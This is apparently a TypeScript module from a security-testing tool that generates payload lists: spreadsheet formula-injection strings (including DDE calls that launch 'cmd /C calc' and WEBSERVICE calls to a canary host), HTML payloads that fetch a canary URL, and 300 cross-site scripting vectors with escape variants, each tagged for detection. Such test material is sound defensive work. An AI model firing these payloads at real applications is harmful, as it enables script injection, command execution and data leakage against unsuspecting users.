/** Texts that mean harm to whoever opens a file, and to a page. */

const formulas = [
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("http://CANARY/x","click")',
  'WEBSERVICE("http://CANARY/x")',
  'IMPORTXML("http://CANARY/x","//a")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "A1;=B1",
  'IMAGE("http://CANARY/x.png")',
  "1\n=2",
];
const leads = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\0=", "\n=", " =", "\u00a0="],
  ...["\u200b=", "\ufeff=", "'=", '"=', "＝", "＋", "－", "＠", "=\u0000", "x;="],
];
/** 200: every formula behind everything that begins one. */
export const formulaPayloads: readonly string[] = leads.flatMap((lead) =>
  formulas.map((formula) => `${lead}${formula}`),
);

/** 50 that would load something, run something, or look like the end of what they stand in. */
export const htmlPayloads = (canary: { readonly http: string; readonly file: string }): readonly string[] => {
  const targets = [canary.http, canary.file];
  const each = (of: (url: string) => string): string[] => targets.map(of);
  return [
    ...each((url) => `<img src="${url}/img">`),
    ...each((url) => `<iframe src="${url}"></iframe>`),
    ...each((url) => `<object data="${url}"></object>`),
    ...each((url) => `<embed src="${url}">`),
    ...each((url) => `<link rel=stylesheet href="${url}">`),
    ...each((url) => `<style>@import url("${url}");*{background:url("${url}")}</style>`),
    ...each((url) => `<script src="${url}"></script>`),
    ...each((url) => `<script>fetch("${url}").then(r=>r.text()).then(t=>document.body.textContent=t)</script>`),
    ...each((url) => `<meta http-equiv=refresh content="0;url=${url}">`),
    ...each((url) => `<base href="${url}/"><img src=x>`),
    ...each((url) => `<svg><image href="${url}"/><use href="${url}#x"/></svg>`),
    ...each((url) => `<svg><foreignObject><iframe src="${url}"/></foreignObject></svg>`),
    ...each((url) => `<video src="${url}" poster="${url}" autoplay></video>`),
    ...each((url) => `<audio src="${url}" autoplay></audio>`),
    ...each((url) => `<form action="${url}"><input autofocus onfocus="this.form.submit()"></form>`),
    ...each((url) => `</td></tr></table><iframe src="${url}"></iframe>`),
    ...each((url) => `</bdi></td><td><img src='${url}'>`),
    ...each((url) => `--><img src="${url}"><!--`),
    ...each((url) => `</title></style></script><img src=${url}>`),
    ...each((url) => `<table background="${url}"><tr><td>`),
    ...each((url) => `<div style="background:url(${url});position:fixed;inset:0">`),
    ...each((url) => `<link rel=preload as=fetch href="${url}"><link rel=dns-prefetch href="${url}">`),
    ...each((url) => `<portal src="${url}"></portal><frameset><frame src="${url}"></frameset>`),
    ...each((url) => `<?xml-stylesheet href="${url}"?><!DOCTYPE x [<!ENTITY y SYSTEM "${url}">]>&y;`),
    ...each((url) => `<template shadowrootmode=open><img src="${url}"></template>`),
  ];
};

const vectors: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<a href="javascript:${run}" autofocus>x</a>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${run}>x</b>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<img src="http://xss.example/x" onerror=${run}>`,
  (run) => `<link rel=stylesheet href=http://xss.example/x.css onerror=${run}>`,
  (run) => `[x](javascript:${run}) ![x](http://xss.example/x.png)`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `\${${run}}`,
  (run) => `javascript:${run}//http://xss.example/`,
  (_run) => `<base href=http://xss.example/><script src=x.js>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  (run) => `<dialog open onclose=${run}><form method=dialog></form></dialog>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<div popover onbeforetoggle=${run}>x</div>`,
];
/** How each is dressed to get out of what it stands in. */
const dresses: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></textarea></style></script>-->${text}`,
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => `\u202e${text}`,
  (text) => text.replaceAll(/<(\w)/g, "<\u0000$1"),
  (text) => text.toUpperCase().replaceAll("XSS(", "xss("),
  (text) => `\`"'></b>${text}`,
];
/** 300, each with a word of its own by which it is found on a page. */
export const scriptPayloads: readonly { readonly word: string; readonly text: string }[] = vectors.flatMap(
  (vector, v) =>
    dresses.map((dress, d) => {
      const word = `qzx${v.toString(36)}y${d}q`;
      return { word, text: `${word} ${dress(vector(`xss(1)`))}` };
    }),
);
